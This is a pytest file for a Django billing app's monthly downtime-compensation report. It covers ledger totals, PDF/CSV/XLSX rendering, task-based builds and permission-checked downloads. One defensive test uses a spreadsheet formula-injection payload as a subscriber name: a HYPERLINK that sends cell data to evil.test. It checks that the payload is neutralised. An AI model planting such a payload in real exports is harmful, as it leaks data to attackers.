"""The monthly compensation report: totals equal the ledger, PDF/CSV/XLSX, a task with progress."""

import csv
import io
import urllib.request
from datetime import date, timedelta
from decimal import Decimal

import pytest
from django.db.models import Sum
from django.urls import reverse
from openpyxl import load_workbook
from pypdf import PdfReader

from billing.models import LedgerEntry, LedgerKind
from onebuh.dates import month_bounds
from operations.models import CompensationReport, ReportStatus
from operations.reporting import render_csv, render_pdf_report, render_xlsx, report_for_month
from operations.services import (
    claim_approve,
    claim_file,
    proposal_build,
    proposal_credit_all,
    report_build,
    report_request,
)
from tests.conftest import at
from tests.factories import MembershipFactory, SubscriberFactory

from .conftest import NOTE
from .factories import IncidentFactory

DEC = date(2026, 12, 1)


@pytest.fixture
def december_credits(db, with_fee, travel):
    """November's proposal and two claims, all credited in December; one claim in January."""
    travel(at(date(2026, 10, 1)))
    subscribers = [with_fee(SubscriberFactory(), Decimal(fee)) for fee in ("30000", "12345.67")]
    claimant = with_fee(SubscriberFactory(name="ТОО «Заявитель»"), Decimal("20000"))
    owner = MembershipFactory(subscriber=claimant, role="owner").user
    IncidentFactory(
        starts_at=at(date(2026, 11, 3), 10),
        ends_at=at(date(2026, 11, 3), 13, 30),
        subscribers=subscribers,
    )
    travel(at(date(2026, 12, 2), 9))
    proposal_credit_all(proposal=proposal_build(month=date(2026, 11, 1)))
    for day, hours in ((1, 5), (2, 30)):
        claim = claim_file(
            subscriber=claimant,
            opened_by=owner,
            downtime_date=date(2026, 12, day),
            claimed_downtime=timedelta(hours=min(hours, 24)),
        )
        claim_approve(claim=claim, downtime=claim.claimed_downtime, note=NOTE)
    travel(at(date(2027, 1, 3), 9))
    claim = claim_file(
        subscriber=claimant,
        opened_by=owner,
        downtime_date=date(2027, 1, 2),
        claimed_downtime=timedelta(hours=2),
    )
    claim_approve(claim=claim, downtime=claim.claimed_downtime, note=NOTE)
    return subscribers, claimant


def ledger_bonus_credits(month):
    start, end = month_bounds(month)
    return LedgerEntry.objects.filter(
        kind=LedgerKind.BONUS_CREDIT, at__gte=start, at__lt=end
    ).aggregate(total=Sum("bonus"))["total"]


def test_report_totals_equal_the_ledgers_bonus_credits_of_the_month(december_credits):
    report = report_for_month(month=DEC)
    assert (
        report.total_amount
        == ledger_bonus_credits(DEC)
        == Decimal("900.00") + Decimal("370.37") + Decimal("1000.00") + Decimal("4800.00")
    )
    # One row per subscriber and downtime month: the claimant's two December claims are one row.
    assert len(report.rows) == 3 and report.subscribers == 3
    assert report.total_hours == 3 + 3 + 29
    assert report_for_month(month=date(2027, 1, 1)).total_amount == ledger_bonus_credits(
        date(2027, 1, 1)
    )


def test_pdf_report_is_rendered_in_russian_with_page_numbers_and_totals(december_credits):
    pdf = PdfReader(io.BytesIO(render_pdf_report(report_for_month(month=DEC))))
    text = "\n".join(page.extract_text() for page in pdf.pages)
    assert "ТОО «Заявитель»" in text
    assert "Отчёт о компенсациях простоя за 12.2026" in text
    assert f"Страница 1 из {len(pdf.pages)}" in text
    last_page = pdf.pages[-1].extract_text().replace("\xa0", " ")
    assert "Итого начислено бонусами 7 070,37 ₸" in last_page


def test_csv_and_xlsx_carry_the_same_rows_and_total(december_credits):
    report = report_for_month(month=DEC)
    rows = list(csv.reader(io.StringIO(render_csv(report).decode("utf-8-sig")), delimiter=";"))
    assert len(rows) == 1 + 3 + 1 and rows[-1][11] == "7070.37"
    sheet = load_workbook(io.BytesIO(render_xlsx(report))).active
    values = list(sheet.values)
    assert values[-1][11] == pytest.approx(7070.37)
    assert [r[2] for r in values[2:-1]] == [r[2] for r in rows[1:-1]]


def test_report_is_built_by_a_task_and_downloaded_by_the_accountant(
    december_credits,
    staff_client,
    staff_accountant,
    operator_engineer,
    django_capture_on_commit_callbacks,
):
    with django_capture_on_commit_callbacks(execute=True):
        report = report_request(month=DEC, format="csv", actor=staff_accountant)
    report.refresh_from_db()
    assert (report.status, report.progress, report.rows) == (ReportStatus.READY, 100, 3)
    url = reverse("admin:operations_compensationreport_download", args=[report.pk])
    assert staff_client(operator_engineer).get(url).status_code == 403
    response = staff_client(staff_accountant).get(url)
    assert response.status_code == 200
    assert "ТОО «Заявитель»" in b"".join(response.streaming_content).decode("utf-8-sig")
    progress = staff_client(staff_accountant).get(
        reverse("admin:operations_compensationreport_progress", args=[report.pk])
    )
    assert progress.json()["status"] == "ready" and progress.json()["download"] == url


def test_on_object_storage_the_report_is_in_the_bucket_and_downloads_through_a_presigned_url(
    s3_storage, december_credits, staff_client, staff_accountant, operator_engineer
):
    """Issue 16.1: the worker stores the file in the bucket; the accountant's download is a
    short-lived presigned link, after the permission check (none for the engineer)."""
    report = CompensationReport.objects.create(month=DEC, format="csv")
    assert report_build(report_id=report.pk) is True
    report.refresh_from_db()
    stored = (
        s3_storage["client"]
        .get_object(Bucket=s3_storage["bucket"], Key=f"media/{report.file.name}")["Body"]
        .read()
    )
    assert "ТОО «Заявитель»" in stored.decode("utf-8-sig")
    url = reverse("admin:operations_compensationreport_download", args=[report.pk])
    assert staff_client(operator_engineer).get(url).status_code == 403
    answer = staff_client(staff_accountant).get(url)
    assert answer.status_code == 302
    link = answer["Location"]
    assert link.startswith(s3_storage["endpoint"]) and "X-Amz-Expires=300" in link
    with urllib.request.urlopen(link, timeout=10) as response:
        assert response.read() == stored
        assert response.headers["Content-Disposition"].startswith("attachment")


def test_report_build_runs_once(december_credits):
    report = CompensationReport.objects.create(month=DEC, format="xlsx")
    assert report_build(report_id=report.pk) is True
    assert report_build(report_id=report.pk) is False


def test_a_hostile_subscriber_name_is_never_a_formula_in_the_csv_or_xlsx(december_credits):
    _subscribers, claimant = december_credits
    name = '=HYPERLINK("http://evil.test/?x="&C3,"Open")'
    claimant.name = name
    claimant.save(update_fields=["name"])
    report = report_for_month(month=DEC)
    rows = list(csv.reader(io.StringIO(render_csv(report).decode("utf-8-sig")), delimiter=";"))
    assert "'" + claimant.display_name in [r[2] for r in rows]
    sheet = load_workbook(io.BytesIO(render_xlsx(report))).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell for cell in cells if cell.data_type == "f"]
    names = [row[2] for row in sheet.iter_rows(min_row=3, max_row=sheet.max_row - 1)]
    assert claimant.display_name in [cell.value for cell in names]
    amount, credited = sheet.cell(row=3, column=12), sheet.cell(row=3, column=2)
    assert amount.data_type == "n" and amount.number_format == "#,##0.00"
    assert credited.is_date and credited.number_format == "DD.MM.YYYY"


def _csv_rows(report):
    return list(csv.reader(io.StringIO(render_csv(report).decode("utf-8-sig")), delimiter=";"))


def _xlsx_rows(report):
    sheet = load_workbook(io.BytesIO(render_xlsx(report))).active
    return list(sheet.iter_rows(values_only=True)), sheet


def test_a_subscribers_cumulative_credits_are_one_row_that_multiplies_out(db, with_fee, travel):
    """The "13 hours where the truth is 10" case: the operator's proposal (3 h) and a claim that
    brings November to 10 h are both credited in December; a second claim in January tops the
    month up to 12 h beside what December already credited."""
    travel(at(date(2026, 10, 1)))
    subscriber = with_fee(SubscriberFactory(name="ТОО «Простой»"), Decimal("24900"))
    owner = MembershipFactory(subscriber=subscriber, role="owner").user
    IncidentFactory(
        starts_at=at(date(2026, 11, 3), 10),
        ends_at=at(date(2026, 11, 3), 13, 30),
        subscribers=[subscriber],
    )
    travel(at(date(2026, 12, 2), 9))
    proposal_credit_all(proposal=proposal_build(month=date(2026, 11, 1)))  # 3 h: 747.00
    for day, hours, month in ((5, 10, 12), (6, 2, 1)):
        travel(at(date(2026 if month == 12 else 2027, month, 3), 9))
        claim = claim_file(
            subscriber=subscriber,
            opened_by=owner,
            downtime_date=date(2026, 11, day),
            claimed_downtime=timedelta(hours=hours),
        )
        claim_approve(claim=claim, downtime=claim.claimed_downtime, note=NOTE)

    december = report_for_month(month=DEC)
    csv_rows = _csv_rows(december)
    header, body, total = csv_rows[0], csv_rows[1:-1], csv_rows[-1]
    assert header[6:12] == [
        "Полных часов",
        "Процент",
        "Плата за месяц, ₸",
        "Положено, ₸",
        "Начислено ранее, ₸",
        "Начислено сейчас, ₸",
    ]
    assert len(body) == 1
    assert body[0][4:12] == [
        "11.2026",
        "10:00",
        "10",
        "10",
        "24900.00",
        "2490.00",
        "0.00",
        "2490.00",
    ]
    assert total[6] == "10" and total[11] == "2490.00" == str(ledger_bonus_credits(DEC))

    january = report_for_month(month=date(2027, 1, 1))
    rows, sheet = _xlsx_rows(january)
    body, total = rows[2:-1], rows[-1]
    assert len(body) == 1
    (hours, percent, fee, entitled, before, now) = body[0][6:12]
    assert (hours, percent) == (12, 12)
    assert fee == pytest.approx(24900) and entitled == pytest.approx(2988)
    assert before == pytest.approx(2490) and now == pytest.approx(498)
    # The columns multiply out, the totals add up, and money is a number in a money format.
    assert entitled == pytest.approx(fee * percent / 100)
    assert now == pytest.approx(entitled - before)
    assert total[6] == sum(r[6] for r in body)
    assert total[11] == pytest.approx(sum(r[11] for r in body))
    assert Decimal(str(total[11])) == ledger_bonus_credits(date(2027, 1, 1))
    for column in (9, 10, 11, 12):
        cell = sheet.cell(row=3, column=column)
        assert cell.data_type == "n" and cell.number_format == "#,##0.00"
    assert sheet.cell(row=3, column=2).is_date


def _synthetic_report(count: int):
    from operations.reporting import Report, ReportRow

    rows = [
        ReportRow(
            number=n,
            credited_at=date(2026, 12, 2),
            subscriber=f"ТОО «Строка {n}»",
            tax_number="240140000001",
            downtime_month="11.2026",
            downtime="3:30",
            hours=3,
            percent=3,
            monthly_fee=Decimal("30000.00"),
            entitled=Decimal("900.00"),
            credited_before=Decimal("0.00"),
            amount=Decimal("900.00"),
            reference="",
            incidents="#1",
            subscriber_id=n,
        )
        for n in range(1, count + 1)
    ]
    return Report(
        month=DEC,
        rows=rows,
        total_amount=Decimal("900.00") * count,
        total_hours=3 * count,
        subscribers=count,
    )


def test_pdf_rendered_in_parts_is_one_document_numbered_across_the_parts(monkeypatch):
    """A big month is laid out a few pages at a time (bounded memory) and joined: every row
    once, in order, and "Page N of M" right on every page."""
    from operations import reporting

    monkeypatch.setattr(reporting, "PDF_PAGES_PER_PART", 2)
    report = _synthetic_report(42 + 48 * 4 + 5)  # six register pages: three parts
    pdf = PdfReader(io.BytesIO(render_pdf_report(report)))
    texts = [page.extract_text() for page in pdf.pages]
    assert len(texts) == 6 + 1  # the totals on their own page
    for number, text in enumerate(texts, start=1):
        assert f"Страница {number} из 7" in text
    joined = "\n".join(texts)
    assert joined.count("Отчёт о компенсациях простоя за 12.2026") == 1
    positions = [joined.index(f"ТОО «Строка {n}»") for n in (1, 42, 43, 100, 239)]
    assert positions == sorted(positions)
    totals = texts[-1].replace("\xa0", " ")
    assert (
        "Итого начислено бонусами 215 100,00 ₸" in totals
        and "Абонентов с начислениями 239" in totals
    )


def test_a_pdf_report_is_stored_by_the_task(december_credits, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        report = report_request(month=DEC, format="pdf")
    report.refresh_from_db()
    assert report.status == ReportStatus.READY and report.rows == 3
    with report.file.open("rb") as handle:
        text = "\n".join(page.extract_text() for page in PdfReader(handle).pages)
    assert "ТОО «Заявитель»" in text and "Страница 1 из 2" in text
